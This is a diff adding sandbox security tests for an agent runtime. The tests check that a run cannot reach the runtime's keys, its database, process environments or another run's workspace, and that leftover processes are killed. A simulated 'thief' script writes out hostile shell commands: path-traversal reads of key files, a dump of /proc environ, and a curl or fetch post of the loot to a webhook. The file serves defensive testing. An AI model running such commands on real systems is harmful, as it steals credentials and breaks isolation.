@@ -1,0 +1,230 @@
+/**
+ * The attack this sandbox answers (docs/security.md#sandbox): an environment whose setup and agent
+ * try to read the admin key, the master key and the database by absolute and relative path, the
+ * runtime's environment through /proc, another run's workspace, and post what they found to a
+ * webhook of the runtime itself. Run against a real `factory serve` child process, whose own
+ * environment holds the master key and a provider key, as a deployment's would.
+ */
+
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { randomBytes, randomInt } from 'node:crypto';
+import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
+import path from 'node:path';
+import { compile } from '../../../cli/compiler/compile.ts';
+import { startChildRuntime, type ChildRuntime } from '../ingress/helpers.ts';
+import { AGENTS, makeRepo, processesOfRun, processesWith, run, sandboxSkip, scratch, spec, waitFor } from './helpers.ts';
+
+const SKIP = sandboxSkip();
+const LOOT_UID = 'wh_lootlootlootlootlootlootlo';
+const LOOT_SECRET = 'loot-token';
+const LOOT_TOKEN = randomBytes(32).toString('base64url');
+
+/** Every file below `dir` (the runtime reads them all: it is root, or their owner). */
+function filesBelow(dir: string): string[] {
+  const out: string[] = [];
+  for (const name of readdirSync(dir)) {
+    const p = path.join(dir, name);
+    const st = statSync(p, { throwIfNoEntry: false });
+    if (st?.isDirectory()) out.push(...filesBelow(p));
+    else if (st?.isFile()) out.push(p);
+  }
+  return out;
+}
+
+/**
+ * The thief's shell script: everything it can read of the runtime's secrets into `out` in its
+ * workspace, then a JSON copy for posting.
+ */
+function gather(rt: ChildRuntime, otherRun: string, out: string): string {
+  const data = rt.dataDir;
+  const work = `${data}-workspaces`;
+  const base = path.basename(data);
+  const targets = [
+    `${data}/admin.key`, `${data}/master.key`, `${data}/factory.db`,
+    // Relative to a workspace at <work>/<run_id>, and to the layout that kept workspaces in the data dir.
+    `../../${base}/admin.key`, `../../${base}/master.key`, `../../${base}/factory.db`, '../../admin.key', '../../master.key', '../../factory.db',
+    `${work}/${otherRun}/private.txt`, `../${otherRun}/private.txt`,
+  ];
+  return [
+    `{ for f in ${targets.map((t) => `'${t}'`).join(' ')}; do echo "== $f"; head -c 4096 "$f"; echo; done`,
+    // The environment of every process this command can see: the runtime's, if it is visible.
+    'echo "== environ"; for e in /proc/[0-9]*/environ; do tr "\\000" "\\n" < "$e"; done',
+    `echo "== ls"; ls -la / '${data}' '${work}'; } > "$FACTORY_WORKSPACE/${out}" 2>&1`,
+    `node -e 'require("fs").writeFileSync(process.argv[1] + ".json", JSON.stringify({ loot: require("fs").readFileSync(process.argv[1], "utf8") }))' "$FACTORY_WORKSPACE/${out}"`,
+  ].join('\n');
+}
+
+/**
+ * A factory: the webhook the thief posts to, a benign environment that keeps `privateValue` in its
+ * workspace, and the thief's environments, which look for the workspace of run `otherRun`.
+ */
+async function applyFactory(rt: ChildRuntime, repo: string, privateValue: string, otherRun: string): Promise<void> {
+  const url = `${rt.url}/webhooks/w/${LOOT_UID}/${LOOT_TOKEN}`;
+  const curl = `curl -sS -m 5 -H 'Content-Type: application/json' --data-binary @"$FACTORY_WORKSPACE/setup-loot.txt.json" '${url}'; echo "curl exit $?"`;
+  const fetchJs = `fetch(${JSON.stringify(url)}, { method: "POST", headers: { "Content-Type": "application/json" }, body: require("fs").readFileSync(process.env.FACTORY_WORKSPACE + "/agent-loot.txt.json") }).then((r) => console.log("posted", r.status), (e) => console.log("post failed:", e.cause?.code ?? e.message))`;
+  const thief = (network?: 'open') => ({
+    ...(network ? { network } : {}),
+    setup: [`${gather(rt, otherRun, 'setup-loot.txt')}\n${curl}`],
+    agent: { command: ['/bin/sh', '-c', `${gather(rt, otherRun, 'agent-loot.txt')}\nnode -e '${fetchJs}'`], timeout: '1m' },
+  });
+  const files = [
+    { path: 'factory.yaml', text: 'name: heist\n' },
+    { path: 'webhooks/loot.yaml', text: `authMode: url_token\nsecretName: ${LOOT_SECRET}\nuid: ${LOOT_UID}\n` },
+    {
+      path: 'environments/benign.yaml',
+      text: JSON.stringify({
+        repos: [{ url: repo, path: 'app' }],
+        setup: ['echo "other run private data: $OTHER_PRIVATE" > private.txt', 'echo built > app/BUILD.txt'],
+        agent: { command: ['node', path.join(AGENTS, 'scripted-agent.mjs')] },
+        env: { OTHER_PRIVATE: privateValue },
+      }),
+    },
+    { path: 'environments/thief.yaml', text: JSON.stringify(thief()) },
+    { path: 'environments/thief-online.yaml', text: JSON.stringify(thief('open')) },
+  ];
+  const { snapshot, diagnostics } = compile(files);
+  assert.ok(snapshot, JSON.stringify(diagnostics));
+  if ((await rt.fetch(`/api/v1/secrets/${LOOT_SECRET}`)).status === 404) {
+    const secret = await rt.fetch('/api/v1/secrets', { method: 'POST', json: { name: LOOT_SECRET, value: LOOT_TOKEN } });
+    assert.equal(secret.status, 201, await secret.text());
+  }
+  const res = await rt.fetch('/api/v1/factories/heist/apply', { method: 'POST', json: { snapshot } });
+  assert.equal(res.status, 200, await res.text());
+}
+
+async function runToEnd(rt: ChildRuntime, environment: string): Promise<Record<string, any>> {
+  const created = (await (await rt.fetch('/api/v1/agent/runs', { method: 'POST', json: { prompt: 'go', config: { environment_id: environment } } })).json()) as { run_id: string };
+  for (let i = 0; i < 1200; i++) {
+    const run = (await (await rt.fetch(`/api/v1/agent/runs/${created.run_id}`)).json()) as Record<string, any>;
+    if (!['QUEUED', 'INPROGRESS'].includes(run.state)) return run;
+    await new Promise((r) => setTimeout(r, 50));
+  }
+  throw new Error(`run ${created.run_id} did not end`);
+}
+
+async function transcriptOf(rt: ChildRuntime, runId: string): Promise<string> {
+  return JSON.stringify(await (await rt.fetch(`/api/v1/agent/runs/${runId}/transcript?limit=1000`)).json());
+}
+
+/** The loot webhook's delivery log, every entry with its payload, as one text. */
+async function deliveriesText(rt: ChildRuntime): Promise<{ count: number; text: string }> {
+  const list = (await (await rt.fetch(`/api/v1/webhooks/${LOOT_UID}/deliveries?limit=100`)).json()) as { deliveries: { delivery_id: string }[] };
+  let text = JSON.stringify(list);
+  for (const d of list.deliveries) text += await (await rt.fetch(`/api/v1/webhooks/${LOOT_UID}/deliveries/${encodeURIComponent(d.delivery_id)}`)).text();
+  return { count: list.deliveries.length, text };
+}
+
+interface Secrets {
+  [what: string]: string;
+}
+
+function assertNoSecret(where: string, text: string, secrets: Secrets): void {
+  for (const [what, value] of Object.entries(secrets)) assert.ok(!text.includes(value), `${what} appears in ${where}`);
+}
+
+async function startRuntime(t: { after: (fn: () => Promise<void>) => void }, args: string[] = []) {
+  const masterKey = randomBytes(32).toString('base64');
+  const providerKey = `sk-ant-${randomBytes(16).toString('hex')}`;
+  const rt = await startChildRuntime({ FACTORY_MASTER_KEY: masterKey, ANTHROPIC_API_KEY: providerKey }, { args: ['--max-concurrent-runs', '1', ...args] });
+  t.after(() => rt.stop());
+  const secrets: Secrets = {
+    'the admin key': readFileSync(path.join(rt.dataDir, 'admin.key'), 'utf8').trim(),
+    'the master key': masterKey,
+    "the runtime's provider key": providerKey,
+    'the database': 'SQLite format 3',
+  };
+  return { rt, secrets };
+}
+
+test('sandbox: a run cannot read the keys, the database, the runtime\'s environment or another run\'s workspace, and with network none cannot post at all; a benign run still SUCCEEDS', { skip: SKIP, timeout: 180_000 }, async (t) => {
+  const dir = scratch(t);
+  const repo = makeRepo(dir);
+  const { rt, secrets } = await startRuntime(t);
+  const otherPrivate = `other-run-private-${randomBytes(8).toString('hex')}`;
+  await applyFactory(rt, repo, otherPrivate, 'run_not_yet');
+
+  // A benign run: clones its repo, runs setup, writes files; its workspace holds a private value.
+  const benign = await runToEnd(rt, 'benign');
+  assert.equal(benign.state, 'SUCCEEDED', JSON.stringify(benign));
+  const benignWs = path.join(`${rt.dataDir}-workspaces`, benign.run_id);
+  assert.match(readFileSync(path.join(benignWs, 'private.txt'), 'utf8'), new RegExp(otherPrivate));
+  assert.equal(readFileSync(path.join(benignWs, 'app/BUILD.txt'), 'utf8'), 'built\n');
+  const benignTranscript = await transcriptOf(rt, benign.run_id);
+  assert.match(benignTranscript, /"type":"file_change".*"path":"AGENT_NOTES.md"/);
+  secrets["another run's workspace"] = otherPrivate;
+
+  // The thief now knows the benign run's id, hence where its workspace is.
+  await applyFactory(rt, repo, otherPrivate, benign.run_id);
+
+  // network: none (the default): the thief's run ends as its commands make it (they swallow
+  // every error), finds nothing, and cannot post: no delivery reaches the runtime.
+  const offline = await runToEnd(rt, 'thief');
+  assert.equal(offline.state, 'SUCCEEDED', JSON.stringify(offline));
+  const offlineTranscript = await transcriptOf(rt, offline.run_id);
+  assert.match(offlineTranscript, /curl: \(7\)[^"]*|Could not resolve|Failed to connect/);
+  assert.match(offlineTranscript, /post failed: (ECONNREFUSED|ENETUNREACH|EAI_AGAIN)/);
+  assert.equal((await deliveriesText(rt)).count, 0, 'a run without network posted to the runtime');
+
+  // network: open: the post arrives (the channel works, so what it carries is what was found).
+  const online = await runToEnd(rt, 'thief-online');
+  assert.equal(online.state, 'SUCCEEDED', JSON.stringify(online));
+  const onlineTranscript = await transcriptOf(rt, online.run_id);
+  assert.match(onlineTranscript, /posted 202/);
+  const deliveries = await deliveriesText(rt);
+  assert.equal(deliveries.count, 2, deliveries.text.slice(0, 2000));
+  assert.match(deliveries.text, /== environ/);
+
+  for (const run of [offline, online]) {
+    const ws = path.join(`${rt.dataDir}-workspaces`, run.run_id);
+    const files = filesBelow(ws);
+    // The thief did write its loot files: they exist, and hold what it tried.
+    const loot = readFileSync(path.join(ws, 'agent-loot.txt'), 'utf8');
+    assert.match(loot, /== \/proc|== environ/);
+    assert.match(loot, new RegExp(`== ${rt.dataDir}/admin.key\\n(head: cannot open|.*No such file)`));
+    for (const f of files) assertNoSecret(`workspace file ${path.relative(ws, f)}`, readFileSync(f, 'latin1'), secrets);
+    assertNoSecret(`the transcript of ${run.run_id}`, await transcriptOf(rt, run.run_id), secrets);
+  }
+  assertNoSecret('the delivery log', deliveries.text, secrets);
+});
+
+test('direct as root: a run as another user cannot read the keys, the database or the runtime\'s environment', { skip: process.getuid?.() !== 0 ? 'the direct executor isolates nothing from a runtime that is not root (docs/security.md#executors)' : false, timeout: 180_000 }, async (t) => {
+  const dir = scratch(t);
+  const repo = makeRepo(dir);
+  const { rt, secrets } = await startRuntime(t, ['--executor', 'direct']);
+  await applyFactory(rt, repo, 'unused', 'run_none');
+  const run = await runToEnd(rt, 'thief');
+  assert.equal(run.state, 'SUCCEEDED', JSON.stringify(run));
+  // Direct runs have the host's network: the post arrives, without anything secret in it.
+  const transcript = await transcriptOf(rt, run.run_id);
+  assert.match(transcript, /posted 202/);
+  const ws = path.join(`${rt.dataDir}-workspaces`, run.run_id);
+  assert.match(readFileSync(path.join(ws, 'agent-loot.txt'), 'utf8'), new RegExp(`== ${rt.dataDir}/admin.key\\nhead: cannot open '[^']+' for reading: Permission denied`));
+  for (const f of filesBelow(ws)) assertNoSecret(`workspace file ${path.relative(ws, f)}`, readFileSync(f, 'latin1'), secrets);
+  assertNoSecret('the transcript', transcript, secrets);
+  assertNoSecret('the delivery log', (await deliveriesText(rt)).text, secrets);
+});
+
+/**
+ * Commands that leave their process group (setsid, a double fork) are out of reach of the group
+ * kill of the direct executor; in the sandbox, the end of bubblewrap ends its PID namespace, and
+ * every process in it.
+ */
+for (const how of ['cancel', 'timeout'] as const) {
+  test(`sandbox: ${how} ends every process the run started, daemons that left its process group included`, { skip: SKIP }, async (t) => {
+    const dir = scratch(t);
+    const n = randomInt(3000, 9000);
+    const sleeps = [`sleep ${n}`, `sleep ${n + 1}`, `sleep ${n + 2}`];
+    const script = `setsid sleep ${n} & (sleep ${n + 1} &) ; nohup sleep ${n + 2} >/dev/null 2>&1 & touch "$FACTORY_WORKSPACE/started"; wait`;
+    const s = spec(dir, { runId: `run_${how}_daemons`, agent: { command: ['/bin/sh', '-c', script], timeoutMs: how === 'timeout' ? 1_500 : 60_000 } });
+    const ac = new AbortController();
+    const job = run(s, { signal: ac.signal });
+    await waitFor(() => existsSync(path.join(s.workspaceDir, 'started')) && sleeps.every((c) => processesWith(c).length === 1), 'the daemons to start');
+    assert.ok(processesOfRun(s.runId).length >= 4, 'every process of the run carries its marker');
+    if (how === 'cancel') ac.abort();
+    const { result } = await job;
+    assert.equal(result.state, how === 'cancel' ? 'CANCELLED' : 'FAILED');
+    if (how === 'timeout') assert.equal(result.errorCode, 'agent_timeout');
+    await waitFor(() => sleeps.every((c) => processesWith(c).length === 0) && processesOfRun(s.runId).length === 0, 'no process of the run to be left');
+  });
+}
